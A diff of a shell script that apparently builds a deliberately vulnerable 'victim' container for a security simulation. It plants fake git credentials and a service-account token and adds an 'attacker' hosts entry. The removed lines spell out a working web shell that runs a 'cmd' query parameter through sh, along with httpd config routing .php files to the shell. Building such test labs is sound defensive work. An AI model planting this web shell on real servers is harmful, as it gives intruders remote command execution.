@@ -1,11 +1,10 @@
 #!/bin/sh
 # Builds the victim container's image (the overlay's lower layer) in $1: busybox applets, curl and
-# nmap with the libraries they link, a web root with a one-line web shell served by busybox httpd,
-# a planted dummy .git-credentials and a service-account token ($2). Everything comes from the host's
-# own binaries; nothing is downloaded.
+# nmap with the libraries they link, a web root with the web shell ($3) served by busybox httpd
+# (configuration $4), a planted dummy .git-credentials and a service-account token ($2). Everything
+# comes from the host's own binaries; nothing is downloaded.
 set -eu
-root=$1
-token=$2
+root=$1 token=$2 webshell=$3 httpd_conf=$4
 busybox=$(command -v busybox)
 mkdir -p "$root"/bin "$root"/usr/bin "$root"/usr/sbin "$root"/etc "$root"/tmp "$root"/proc "$root"/dev \
   "$root"/var/www "$root"/home/user "$root"/var/run/secrets/kubernetes.io/serviceaccount "$root"/.oldroot
@@ -44,16 +43,9 @@ cat >"$root"/etc/hosts <<'HOSTS'
 10.203.0.1 attacker
 10.96.0.1 kubernetes kubernetes.default kubernetes.default.svc kubernetes.default.svc.cluster.local
 HOSTS
-# *.php runs through the shell: the web shell below is a shell script with the name a PHP one has.
-echo '*.php:/bin/sh' >"$root"/etc/httpd.conf
+cp "$httpd_conf" "$root"/etc/httpd.conf
 echo '<html><body>It works.</body></html>' >"$root"/var/www/index.html
-cat >"$root"/var/www/ws.php <<'SHELL'
-# Web shell: runs the cmd query parameter and returns its output.
-echo "Content-Type: text/plain"
-echo
-cmd=$(httpd -d "${QUERY_STRING#cmd=}")
-sh -c "$cmd" 2>&1
-SHELL
+cp "$webshell" "$root"/var/www/ws.php
 echo 'https://simulated-user:not-a-real-token@git.example.com' >"$root"/home/user/.git-credentials
 printf %s "$token" >"$root"/var/run/secrets/kubernetes.io/serviceaccount/token
 echo picket-simulation >"$root"/var/run/secrets/kubernetes.io/serviceaccount/namespace
